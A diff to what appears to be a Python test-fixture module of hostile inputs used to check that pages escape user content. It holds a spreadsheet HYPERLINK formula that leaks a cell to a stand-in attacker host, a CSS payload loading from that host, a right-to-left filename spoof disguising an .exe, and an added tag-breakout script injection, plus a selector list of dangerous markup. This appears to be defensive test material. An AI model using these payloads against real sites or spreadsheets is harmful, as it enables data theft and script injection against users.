@@ -40,8 +40,9 @@ HOSTILE: Final = {
     "a formula": '=HYPERLINK("http://evil.example/?"&A1,"x")<x-hit>',
     "a sheet": "<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x><x-hit>",
 }  # fmt: skip
-#: Turned around, and lines that end in scripts alone; some fields refuse these.
-TURNED: Final = "invoice\u202efdp.exe\u2066 a\u2028b\u2029c"
+#: Turned around, and lines that end in scripts alone; some fields refuse these. With markup: the only one that is
+#: written everywhere each time, the others are for `make test-all`.
+TURNED: Final = "invoice\u202efdp.exe\u2066 a\u2028b\u2029c\"'></title><x-hit></x-hit><script>window.hit=1</script>"
 #: What no page may have, whatever was written.
 HIT: Final = (
     "x-hit, iframe, base, object, embed, math, [srcdoc], [onerror], [onload], [onfocus], [onmouseover],"
